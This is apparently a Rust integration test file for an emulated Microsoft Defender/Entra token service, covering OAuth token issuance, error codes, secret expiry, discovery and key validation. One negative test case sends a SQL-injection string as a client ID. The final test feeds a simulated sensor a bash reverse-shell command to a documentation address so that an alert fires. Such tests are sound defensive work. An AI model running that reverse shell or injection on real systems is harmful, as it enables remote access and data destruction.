//! The token endpoints, discovery and keys.

use crate::support::{Answer, DEFENDER, World, answer};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use chrono::TimeDelta;
use reqwest::Method;
use serde_json::{Value as Json, json};

fn part(token: &str, index: usize) -> Json {
    let part = token.split('.').nth(index).expect("three parts");
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).expect("base64url")).expect("JSON")
}

/// Every identifier under which clients ask for the resource (documented ones and those of older
/// connectors).
const RESOURCES: &[&str] = &[
    "https://api.securitycenter.microsoft.com",
    "https://securitycenter.onmicrosoft.com/windowsatpservice",
    "https://api.security.microsoft.com",
    "https://api.securitycenter.windows.com",
    "https://api-gcc.securitycenter.microsoft.us",
    "https://api-gov.securitycenter.microsoft.us",
    "fc780465-2017-40d4-a0c5-307022471b92",
];

#[tokio::test]
async fn both_endpoints_issue_the_same_kind_of_token_for_every_identifier() {
    let world = World::start().await;
    let (tenant, app) = (world.first.tenant.to_string(), world.first.app_id.to_string());
    for resource in RESOURCES {
        let shared = [
            ("grant_type", "client_credentials"),
            ("client_id", app.as_str()),
            ("client_secret", world.first.app_secret.as_str()),
        ];
        let mut fields = shared.to_vec();
        fields.push(("resource", resource));
        let v1 = world.form(&format!("/{tenant}/oauth2/token"), &fields).await;
        assert_eq!(v1.status, 200, "{resource}: {}", v1.body);
        // The v1 endpoint writes its numbers as texts.
        assert_eq!(v1.body["expires_in"], "3599");
        assert_eq!(v1.body["resource"], *resource);
        assert_eq!(v1.body["token_type"], "Bearer");
        let scope = format!("{resource}/.default");
        let mut fields = shared.to_vec();
        fields.push(("scope", scope.as_str()));
        let v2 = world.form(&format!("/{tenant}/oauth2/v2.0/token"), &fields).await;
        assert_eq!(v2.status, 200, "{resource}: {}", v2.body);
        assert_eq!(v2.body["expires_in"], 3599);
        assert!(v2.headers["cache-control"].to_str().expect("text").contains("no-store"));
        for answer in [&v1, &v2] {
            let token = answer.body["access_token"].as_str().expect("a token");
            let (header, claims) = (part(token, 0), part(token, 1));
            assert_eq!(header["alg"], "RS256");
            assert_eq!(header["typ"], "JWT");
            assert_eq!(header["kid"], header["x5t"]);
            assert_eq!(claims["aud"], *resource);
            assert_eq!(claims["iss"], format!("https://sts.windows.net/{tenant}/"));
            assert_eq!(claims["tid"], tenant);
            assert_eq!(claims["appid"], app);
            assert_eq!(claims["appidacr"], "1");
            assert_eq!(claims["idtyp"], "app");
            assert_eq!(claims["ver"], "1.0");
            assert_eq!(claims["oid"], claims["sub"]);
            assert_eq!(
                claims["exp"].as_i64().expect("exp") - claims["iat"].as_i64().expect("iat"),
                3599
            );
            let roles = claims["roles"].as_array().expect("roles");
            assert!(roles.contains(&json!("Machine.Isolate")), "{roles:?}");
            assert!(!roles.contains(&json!("Machine.Offboard")), "{roles:?}");
            assert_eq!(world.get("/api/machines", token).await.status, 200);
        }
    }
    world.stop().await;
}

/// What a request changes against one that succeeds, and the error that answers it.
struct Case {
    name: &'static str,
    /// Fields to set, or to leave out with `None`.
    set: &'static [(&'static str, Option<&'static str>)],
    tenant: Option<&'static str>,
    number: u64,
    code: &'static str,
    status: u16,
}

const CASES: &[Case] = &[
    Case {
        name: "no such tenant",
        set: &[],
        tenant: Some("nowhere.example"),
        number: 90002,
        code: "invalid_request",
        status: 400,
    },
    Case {
        name: "no such tenant id",
        set: &[],
        tenant: Some("7f2f7a52-98b8-4d1f-8d4b-54d6b3a8c9aa"),
        number: 90002,
        code: "invalid_request",
        status: 400,
    },
    Case {
        name: "no tenant named",
        set: &[],
        tenant: Some("common"),
        number: 50059,
        code: "invalid_request",
        status: 400,
    },
    Case {
        name: "no grant",
        set: &[("grant_type", None)],
        tenant: None,
        number: 900144,
        code: "invalid_request",
        status: 400,
    },
    Case {
        name: "unknown grant",
        set: &[("grant_type", Some("magic"))],
        tenant: None,
        number: 70003,
        code: "unsupported_grant_type",
        status: 400,
    },
    Case {
        name: "no client",
        set: &[("client_id", None)],
        tenant: None,
        number: 900144,
        code: "invalid_request",
        status: 400,
    },
    Case {
        name: "unknown client",
        set: &[("client_id", Some("7f2f7a52-98b8-4d1f-8d4b-54d6b3a8c9aa"))],
        tenant: None,
        number: 700016,
        code: "unauthorized_client",
        status: 400,
    },
    Case {
        name: "client that is no id",
        set: &[("client_id", Some("me'; DROP TABLE applications"))],
        tenant: None,
        number: 700016,
        code: "unauthorized_client",
        status: 400,
    },
    Case {
        name: "no secret",
        set: &[("client_secret", None)],
        tenant: None,
        number: 7000216,
        code: "invalid_client",
        status: 401,
    },
    Case {
        name: "wrong secret",
        set: &[("client_secret", Some("wrong-secret-0000000000"))],
        tenant: None,
        number: 7000215,
        code: "invalid_client",
        status: 401,
    },
    Case {
        name: "no scope",
        set: &[("scope", None)],
        tenant: None,
        number: 900144,
        code: "invalid_request",
        status: 400,
    },
    Case {
        name: "scope without .default",
        set: &[("scope", Some("https://api.securitycenter.microsoft.com/Alert.Read"))],
        tenant: None,
        number: 1002012,
        code: "invalid_scope",
        status: 400,
    },
    Case {
        name: "unknown resource",
        set: &[("scope", Some("https://other.example/.default"))],
        tenant: None,
        number: 500011,
        code: "invalid_resource",
        status: 400,
    },
    Case {
        name: "resource on v2",
        set: &[("resource", Some(DEFENDER))],
        tenant: None,
        number: 901002,
        code: "invalid_request",
        status: 400,
    },
];

#[tokio::test]
async fn every_refusal_has_its_number_code_status_and_fields() {
    let world = World::start().await;
    let (tenant, app) = (world.first.tenant.to_string(), world.first.app_id.to_string());
    let scope = format!("{DEFENDER}/.default");
    for case in CASES {
        let mut fields = vec![
            ("grant_type", "client_credentials"),
            ("client_id", app.as_str()),
            ("client_secret", world.first.app_secret.as_str()),
            ("scope", scope.as_str()),
        ];
        for (name, value) in case.set {
            fields.retain(|(field, _)| field != name);
            fields.extend(value.map(|value| (*name, value)));
        }
        let path = format!("/{}/oauth2/v2.0/token", case.tenant.unwrap_or(&tenant));
        let refused = world.form(&path, &fields).await;
        refusal(case.name, &refused, case.status, case.number, case.code);
        let text = refused.body.to_string();
        assert!(!text.contains(&world.first.app_secret), "{}: {text}", case.name);
        assert!(!text.contains("wrong-secret"), "{}: {text}", case.name);
    }
    world.stop().await;
}

fn refusal(name: &str, refused: &Answer, status: u16, number: u64, code: &str) {
    let body = &refused.body;
    assert_eq!(refused.status, status, "{name}: {body}");
    assert_eq!(body["error"], code, "{name}: {body}");
    assert_eq!(body["error_codes"], json!([number]), "{name}");
    let description = body["error_description"].as_str().expect("a description");
    assert!(description.starts_with(&format!("AADSTS{number}: ")), "{name}: {description}");
    for (label, field) in [
        ("Trace ID: ", "trace_id"),
        ("Correlation ID: ", "correlation_id"),
        ("Timestamp: ", "timestamp"),
    ] {
        let told = format!("{label}{}", body[field].as_str().expect("a field"));
        assert!(description.contains(&told), "{name}: {description}");
    }
    assert!(body["error_uri"].as_str().expect("a uri").ends_with(&format!("?code={number}")));
}

#[tokio::test]
async fn requests_that_are_no_token_requests_are_refused() {
    let world = World::start().await;
    let path = format!("/{}/oauth2/v2.0/token", world.first.tenant);
    let refused = answer(world.request(Method::GET, &path)).await;
    refusal("GET", &refused, 405, 900561, "invalid_request");
    let refused = answer(world.request(Method::POST, &path).json(&json!({"a": 1}))).await;
    refusal("JSON", &refused, 400, 9002313, "invalid_request");
    let form = "application/x-www-form-urlencoded";
    let post =
        |body: String| world.request(Method::POST, &path).header("content-type", form).body(body);
    let refused = answer(post("scope=a&grant_type=x&scope=b".to_owned())).await;
    refusal("twice", &refused, 400, 9002313, "invalid_request");
    let refused = answer(post(format!("grant_type={}", "x".repeat(100_000)))).await;
    refusal("too large", &refused, 400, 9002313, "invalid_request");
    let refused = answer(post(String::new()).basic_auth("a", Some("b"))).await;
    refusal("empty", &refused, 400, 900144, "invalid_request");
    world.stop().await;
}

#[tokio::test]
async fn secrets_are_several_expire_and_can_be_removed() {
    let world = World::start().await;
    let tenant = world.first.tenant.to_string();
    let (app, first) = world.application(&["Machine.Read.All"]).await;
    let admin = world.administration_token().await;
    let secrets = format!("/admin/v1/tenants/{tenant}/applications/{app}/secrets");
    let soon = (world.clock.now() + TimeDelta::minutes(5)).to_rfc3339();
    let issued =
        world.post(&secrets, &admin, json!({"displayName": "short", "expires": soon})).await;
    let short = issued.body["secret"].as_str().expect("a secret").to_owned();

    let scope = format!("{DEFENDER}/.default");
    let ask = async |secret: &str| {
        let fields = [
            ("grant_type", "client_credentials"),
            ("client_id", app.as_str()),
            ("client_secret", secret),
            ("scope", scope.as_str()),
        ];
        world.form(&format!("/{tenant}/oauth2/v2.0/token"), &fields).await
    };
    assert_eq!(ask(&first).await.status, 200);
    assert_eq!(ask(&short).await.status, 200);
    world.clock.advance(TimeDelta::minutes(6));
    refusal("expired", &ask(&short).await, 401, 7000222, "invalid_client");
    assert_eq!(ask(&first).await.status, 200);

    // The list shows hints, no secrets; a removed one ends at once.
    let admin = world.administration_token().await;
    let shown = world.get(&format!("/admin/v1/tenants/{tenant}/applications/{app}"), &admin).await;
    let listed = shown.body["secrets"].as_array().expect("secrets").clone();
    assert_eq!(listed.len(), 2);
    let text = shown.body.to_string();
    assert!(!text.contains(&first) && !text.contains(&short), "{text}");
    let key = listed
        .iter()
        .find(|s| first.starts_with(s["hint"].as_str().expect("a hint")))
        .expect("listed");
    let path = format!("{secrets}/{}", key["keyId"].as_str().expect("an id"));
    assert_eq!(world.call(Method::DELETE, &path, &admin, None).await.status, 204);
    refusal("removed", &ask(&first).await, 401, 7000215, "invalid_client");
    world.stop().await;
}

#[tokio::test]
async fn basic_authentication_and_the_domain_name_work() {
    let world = World::start().await;
    let pair = format!("{}:{}", world.first.app_id, world.first.app_secret);
    let post = |credentials: &str| {
        let path = format!("/{}/oauth2/v2.0/token", world.first.domain.to_uppercase());
        let scope = format!("{DEFENDER}/.default");
        let fields = [("grant_type", "client_credentials".to_owned()), ("scope", scope)];
        let basic = format!("Basic {}", STANDARD.encode(credentials));
        world.request(Method::POST, &path).header("authorization", basic).form(&fields)
    };
    assert_eq!(answer(post(&pair)).await.status, 200);
    let refused = answer(post(&format!("{}:nonsense", world.first.app_id))).await;
    refusal("wrong basic", &refused, 401, 7000215, "invalid_client");
    let challenge = refused.headers["www-authenticate"].to_str().expect("text");
    assert!(challenge.starts_with("Basic"), "{challenge}");
    world.stop().await;
}

#[tokio::test]
async fn discovery_leads_to_the_key_that_signed() {
    let world = World::start().await;
    let tenant = world.first.tenant.to_string();
    let token = world.first_token().await;
    let kid = part(&token, 0)["kid"].clone();
    for (path, token_path) in [
        (format!("/{tenant}/.well-known/openid-configuration"), format!("/{tenant}/oauth2/token")),
        (
            format!("/{tenant}/v2.0/.well-known/openid-configuration"),
            format!("/{tenant}/oauth2/v2.0/token"),
        ),
    ] {
        let document = answer(world.request(Method::GET, &path)).await;
        assert_eq!(document.status, 200, "{path}");
        assert_eq!(document.body["token_endpoint"], format!("{}{token_path}", world.url));
        let keys = document.body["jwks_uri"].as_str().expect("a uri");
        let keys = answer(world.http.get(keys)).await;
        let keys = keys.body["keys"].as_array().expect("keys").clone();
        let key = keys.iter().find(|key| key["kid"] == kid).expect("the key that signed");
        assert_eq!(key["kty"], "RSA");
        let component = |name: &str| key[name].as_str().expect("a component").to_owned();
        let decoding =
            jsonwebtoken::DecodingKey::from_rsa_components(&component("n"), &component("e"))
                .expect("a key");
        let mut validation = jsonwebtoken::Validation::new(jsonwebtoken::Algorithm::RS256);
        validation.set_audience(&[DEFENDER]);
        jsonwebtoken::decode::<Json>(&token, &decoding, &validation)
            .expect("a stock library accepts it");
    }
    let unknown = answer(
        world.request(Method::GET, "/nowhere.example/v2.0/.well-known/openid-configuration"),
    )
    .await;
    assert_eq!(unknown.status, 400);
    assert_eq!(unknown.body["error_codes"], json!([90002]));
    let instance = "/common/discovery/instance?api-version=1.1&authorization_endpoint=https://127.0.0.1/common/oauth2/v2.0/authorize";
    let instance = answer(world.request(Method::GET, instance)).await;
    assert_eq!(instance.status, 200, "{}", instance.body);
    assert!(instance.body["tenant_discovery_endpoint"].is_string(), "{}", instance.body);
    world.stop().await;
}

/// The same on the other database, where the test command has started one.
#[tokio::test]
async fn postgresql_keeps_the_same_state() {
    let Some(world) = World::on_postgresql("server_tests").await else { return };
    let mut sensor = world.sensor("pg.tests.example").await;
    let token = world.first_token().await;
    let listed =
        world.get("/api/machines?$filter=computerDnsName eq 'pg.tests.example'", &token).await;
    assert_eq!(listed.body["value"][0]["id"], sensor.id(), "{}", listed.body);
    let path = format!("/api/machines/{}/isolate", sensor.id());
    let action = world.post(&path, &token, json!({"Comment": "c", "IsolationType": "Full"})).await;
    assert_eq!(action.status, 201, "{}", action.body);
    assert_eq!(sensor.orders().await.len(), 1);
    sensor.process(world.clock.now(), "bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1").await;
    let mut tries = 0;
    while world.get("/api/alerts", &token).await.body["value"] == json!([]) {
        tries += 1;
        assert!(tries < 100, "no rule raised an alert");
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    world.stop().await;
}
